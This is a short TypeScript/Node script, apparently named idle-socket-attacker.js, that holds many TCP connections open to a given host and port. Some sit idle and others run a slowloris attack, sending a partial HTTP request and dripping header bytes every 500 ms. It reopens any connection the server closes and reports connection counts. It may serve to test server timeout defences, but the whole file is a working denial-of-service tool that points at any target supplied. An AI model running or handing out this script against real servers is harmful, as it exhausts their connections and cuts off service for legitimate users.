// Opens `count` TCP connections to host:port and holds them for `ms`: half send nothing, half
// send a request line and then one header byte every 500 ms (slowloris). A connection the server
// closes is opened again at once. Prints `{"opened": n, "closedByServer": n}`.
// Usage: node idle-socket-attacker.js <host> <port> <count> <ms>
import net from "node:net";

const [host, port, count, ms] = process.argv.slice(2);
const end = Date.now() + Number(ms);
const counts = { opened: 0, closedByServer: 0 };
const sockets = new Set<net.Socket>();

function open(slow: boolean): void {
  if (Date.now() >= end) return;
  const socket = net.connect(Number(port), host!);
  counts.opened++;
  sockets.add(socket);
  let drip: NodeJS.Timeout | undefined;
  socket.on("error", () => {});
  socket.on("connect", () => {
    if (!slow) return;
    socket.write("GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ");
    drip = setInterval(() => socket.write("a"), 500);
  });
  socket.on("close", () => {
    clearInterval(drip);
    sockets.delete(socket);
    if (Date.now() < end) {
      counts.closedByServer++;
      setTimeout(() => open(slow), 5); // a persistent attacker comes back
    }
  });
}

for (let i = 0; i < Number(count); i++) open(i % 2 === 1);
await new Promise((resolve) => setTimeout(resolve, Math.max(0, end - Date.now())));
for (const s of sockets) s.destroy();
process.stdout.write(`${JSON.stringify(counts)}\n`);
